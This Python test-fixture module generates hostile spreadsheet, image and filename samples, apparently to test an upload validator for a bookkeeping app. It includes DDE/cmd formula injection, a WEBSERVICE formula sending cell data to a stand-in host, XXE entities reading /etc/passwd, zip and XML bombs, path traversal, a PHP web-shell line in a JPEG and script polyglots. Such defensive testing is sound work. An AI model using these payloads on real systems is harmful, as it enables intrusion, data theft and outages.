"""Files that somebody might send on purpose, made by code: nothing here is kept in the repository as it is.

`SHEETS` go in where workbooks do, `PHOTOS` where pictures do: what it is → (name, content).
"""

import io
import struct
import zipfile
import zlib

import openpyxl
from PIL import Image

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET = f'<worksheet xmlns="{MAIN}"><sheetData>%s</sheetData></worksheet>'
CELLS = '<row r="1"><c r="A1" t="inlineStr"><is><t>%s</t></is></c></row>'
FIRST = "xl/worksheets/sheet1.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
    'Type="http://x/%s" Target="%s" TargetMode="External"/></Relationships>'
)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def clean() -> bytes:
    file, book = io.BytesIO(), openpyxl.Workbook()
    book.active.append(["Tanggal", "Keterangan", "Masuk", "Keluar"])
    book.active.append(["2025-01-02", "Iuran Siti", 20_000, None])
    book.save(file)
    return file.getvalue()


CLEAN = clean()


def workbook(parts: dict | None = None, leave_out: tuple = ()) -> bytes:
    """The clean workbook with parts put in or replaced."""
    file, parts = io.BytesIO(), parts or {}
    with zipfile.ZipFile(io.BytesIO(CLEAN)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            if part not in parts and part not in leave_out:
                new.writestr(part, old.read(part))
        for part, body in parts.items():
            new.writestr(part, body)
    return file.getvalue()


def sheet(inside: str, before: str = "") -> bytes:
    return workbook({FIRST: before + SHEET % inside})


def formula(text: str) -> bytes:
    file, book = io.BytesIO(), openpyxl.Workbook()
    book.active["A1"] = text
    book.save(file)
    return file.getvalue()


def many_sheets(count: int) -> bytes:
    file, book = io.BytesIO(), openpyxl.Workbook()
    for _each in range(count):
        book.create_sheet()
    book.save(file)
    return file.getvalue()


def directory(names: list[bytes], starts: list[int], size: int = 1) -> bytes:
    """A zip whose directory names parts that lie where it says, or on top of each other."""
    local = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, zlib.crc32(b"x"), 1, 1, 1, 0) + b"ax"
    entries = [
        b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, zlib.crc32(b"x"), 1, size, len(name),
                                    0, 0, 0, 0, 0, at) + name
        for name, at in zip(names, starts, strict=True)
    ]  # fmt: skip
    body = b"".join(entries)
    end = struct.pack("<HHHHIIH", 0, 0, min(len(names), 65_535), min(len(names), 65_535), len(body), len(local), 0)
    return local + body + b"PK\x05\x06" + end


def lying_about_its_size() -> bytes:
    body = bytearray(workbook({"xl/media/palsu.bin": bytes(range(256)) * 8_000}))
    place = body.rfind(b"palsu.bin") - len("xl/media/") - 46
    body[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(body)


def locked() -> bytes:
    """Flag 1 of every part: a password."""
    body, at = bytearray(CLEAN), 0
    while (at := body.find(b"PK\x01\x02", at)) >= 0:
        body[at + 8] |= 1
        at += 4
    return bytes(body)


def opendocument(more: dict) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as book:
        book.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        book.writestr("content.xml", "<x/>")
        for name, body in more.items():
            book.writestr(name, body)
    return file.getvalue()


def archive(parts: dict) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, body in parts.items():
            made.writestr(name, body)
    return file.getvalue()


def picture(kind="JPEG", size=(64, 48), **saved) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", size, "#e8dfc8").save(file, kind, **saved)
    return file.getvalue()


def png(width: int, height: int, *more: tuple[bytes, bytes]) -> bytes:
    """Only the head of a PNG, and what else is wanted: it says its size and holds no pixel."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", head), *more, (b"IDAT", zlib.compress(b"\0" * 64)), (b"IEND", b"")]
    packed = (struct.pack(">I", len(c)) + k + c + struct.pack(">I", zlib.crc32(k + c)) for k, c in chunks)
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


WORD = archive({
    "[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.main+xml"/></Types>',
    "word/document.xml": "<x/>",
})  # fmt: skip

SHEETS = {
    "a program": ("buku.xlsx", b"MZ" + b"\0" * 400),
    "a program of another system": ("buku.csv", b"\x7fELF" + b"\0" * 400),
    "a program under its own name": ("buku.exe", b"MZ" + b"\0" * 400),
    "no kind at all": ("buku", CLEAN),
    "a picture": ("buku.xlsx", picture("PNG")),
    "a photo as text": ("buku.csv", picture()),
    "a paper": ("buku.xlsx", b"%PDF-1.7\n1 0 obj\n"),
    "a paper that is a zip too": ("buku.xlsx", b"%PDF-1.7\n" + CLEAN),
    "a page": ("buku.csv", b"<html><script>alert(1)</script></html>"),
    "a page as an old workbook": ("buku.xls", b"<html><table><tr><td>1</td></tr></table></html>"),
    "a document type as text": ("buku.csv", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    "rich text": ("buku.csv", b"{\\rtf1 halo}"),
    "nothing": ("buku.xlsx", b""),
    "noughts": ("buku.csv", b"a,b\0\0c\n" * 40),
    "a workbook with macros by name": ("buku.xlsm", CLEAN),
    "a workbook with macros": ("buku.xlsx", workbook({"xl/vbaProject.bin": OLE})),
    "old macros": ("buku.xlsx", workbook({"xl/macrosheets/sheet1.xml": "<x/>"})),
    "macros by type": ("buku.xlsx", workbook({"[Content_Types].xml": '<Types><Default ContentType="application/'
                                              'vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'})),
    "a control": ("buku.xlsx", workbook({"xl/activeX/activeX1.bin": OLE})),
    "something wrapped in": ("buku.xlsx", workbook({"xl/embeddings/oleObject1.bin": OLE})),
    "a link to a file": ("buku.xlsx", workbook({"xl/externalLinks/externalLink1.xml": "<x/>"})),
    "a connection": ("buku.xlsx", workbook({"xl/connections.xml": "<x/>"})),
    "a query": ("buku.xlsx", workbook({"xl/queryTables/queryTable1.xml": "<x/>"})),
    "a template from elsewhere": ("buku.xlsx", workbook({"xl/worksheets/_rels/sheet1.xml.rels": RELATION % (
        "attachedTemplate", "https://jahat.example/t")})),
    "a share that asks for a password": ("buku.xlsx", workbook({"xl/worksheets/_rels/sheet1.xml.rels": RELATION % (
        "oleObject", "file://10.0.0.9/bagi")})),
    "a formula that starts a program": ("buku.xlsx", formula("=cmd|'/C calc'!A0")),
    "a formula of old data exchange": ("buku.xlsx", formula('=DDE("cmd";"/C calc";"x")')),
    "a formula that fetches": ("buku.xlsx", formula('=WEBSERVICE("https://jahat.example/?q="&A2)')),
    "a command in a text": ("buku.csv", b"No,Nama\n1,=cmd|'/C calc'!A0\n"),
    "an entity": ("buku.xlsx", sheet(CELLS % "&b;", '<!DOCTYPE a [<!ENTITY b "c">]>')),
    "a billion laughs": ("buku.xlsx", sheet(CELLS % "&l9;", f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]>')),
    "an entity from the disk": ("buku.xlsx", sheet(CELLS % "&b;", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>')),
    "an entity from the net": ("buku.xlsx", sheet(CELLS % "&b;", '<!DOCTYPE a SYSTEM "http://10.0.0.9/a.dtd">')),
    "an entity in another coding": ("buku.xlsx", workbook({FIRST: (
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]>' + SHEET % "").encode("utf-16")})),
    "an entity in the texts": ("buku.xlsx", workbook({"xl/sharedStrings.xml": '<!DOCTYPE a [<!ENTITY b "c">]><sst/>'})),
    "a bomb": ("buku.xlsx", workbook({"xl/media/besar.bin": b"\0" * 9_000_000})),
    "a bomb of many": ("buku.xlsx", workbook({f"xl/media/{n}.txt": b"x" for n in range(300)})),
    "a hundred thousand parts": ("buku.xlsx", directory([b"xl/%d" % n for n in range(100_000)], [0] * 100_000)),
    "parts on top of each other": ("buku.xlsx", directory([b"a", b"b", b"c"], [0, 0, 0])),
    "a part larger than all memory": ("buku.xlsx", directory([b"a"], [0], 0xFFFFFFF0)),
    "a part that lies about its size": ("buku.xlsx", lying_about_its_size()),
    "the same part twice": ("buku.xlsx", directory([b"xl/workbook.xml"] * 2, [0, 0])),
    "cut in the middle": ("buku.xlsx", CLEAN[: len(CLEAN) // 2]),
    "cut at the end": ("buku.xlsx", CLEAN[:-30]),
    "a way out of the folder": ("buku.xlsx", workbook({"../../../keluar.xml": "<x/>"})),
    "the same, of another system": ("buku.xlsx", workbook({"..\\..\\keluar.xml": "<x/>"})),
    "a part at the root": ("buku.xlsx", workbook({"/etc/cron.d/x": "x"})),
    "a part on a drive": ("buku.xlsx", workbook({"C:/Windows/x": "x"})),
    "locked": ("buku.xlsx", locked()),
    "locked by an office program": ("buku.xlsx", OLE + b"\0" * 600),
    "a letter": ("buku.xlsx", WORD),
    "any archive": ("buku.xlsx", archive({"META-INF/MANIFEST.MF": "x", "Main.class": b"\xca\xfe\xba\xbe"})),
    "an open workbook under another name": ("buku.xlsx", opendocument({})),
    "an open workbook with a program": ("buku.ods", opendocument({"Basic/Standard/Module1.xml": "<x/>"})),
    "an open workbook with a script": ("buku.ods", opendocument({"Scripts/python/x.py": "x"})),
    "an old workbook of noise": ("buku.xls", OLE + bytes(range(256)) * 12),
    "a cell at the end of the world": ("buku.xlsx", sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    "cells without end": ("buku.csv", b"," * 4_200_000),
    "more sheets than a book has": ("buku.xlsx", many_sheets(121)),
    "XML that ends nowhere": ("buku.xlsx", workbook({FIRST: "<worksheet><sheetData><row>"})),
    "more than a workbook weighs": ("buku.xlsx", CLEAN + b"\0" * 12_000_000),
}  # fmt: skip

PHOTOS = {
    "a program": ("foto.jpg", b"MZ" + b"\0" * 400),
    "a page": ("foto.jpg", b"<html><script>alert(1)</script></html>"),
    "a drawing that runs": ("foto.jpg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "a paper": ("ktp.jpg", b"%PDF-1.7\n1 0 obj\n"),
    "a workbook": ("foto.jpg", CLEAN),
    "a GIF that is a script": ("foto.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"),
    "a photo that is a zip": ("foto.jpg", picture() + archive({"a.html": "x"})),
    "a photo that is a page": ("foto.jpg", picture() + b"<html><body>halo</body></html>"),
    "a photo that is a paper": ("foto.jpg", picture(comment=b"%PDF-1.4 polyglot")),
    "a photo that is a program of a server": ("foto.jpg", picture() + b"<?php system($_GET['x']); ?>"),
    "900 million pixels": ("foto.png", png(30_000, 30_000)),
    "no pixel": ("foto.png", png(0, 0)),
    "words that burst": ("foto.png", png(8, 8, (b"zTXt", b"k\0\0" + zlib.compress(b"\0" * 9_000_000)))),
    "sound": ("foto.webp", b"RIFF\x24\0\0\0WAVEfmt "),
    "half a photo": ("foto.jpg", picture(size=(640, 480))[:900]),
    "another kind of picture": ("foto.jpg", picture("TIFF")),
    "more than a photo weighs": ("foto.jpg", picture() + b"\0" * 5_000_000),
}

NAMES = {  # what a file is called → what we call it
    "../../../etc/passwd.xlsx": "passwd.xlsx",
    "..\\..\\Windows\\buku.xlsx": "buku.xlsx",
    "C:\\Users\\Siti\\buku.xlsx": "buku.xlsx",
    "CON.xlsx": "_CON.xlsx",
    "nul": "_nul",
    "lpt1.csv": "_lpt1.csv",
    "buku\0.xlsx": "buku.xlsx",
    "buku\r\nSet-Cookie: x.xlsx": "bukuSet-Cookie_ x.xlsx",
    "iuran\u202exslx.exe": "iuranxslx.exe",
    "\u2066buku\u2069.xlsx": "buku.xlsx",
    "a" * 300 + ".xlsx": "a" * 114 + ".xlsx",
    "buku.xlsx. . .": "buku.xlsx",
    "": "berkas",
    "/": "berkas",
    "buku<script>.xlsx": "buku_script_.xlsx",
}
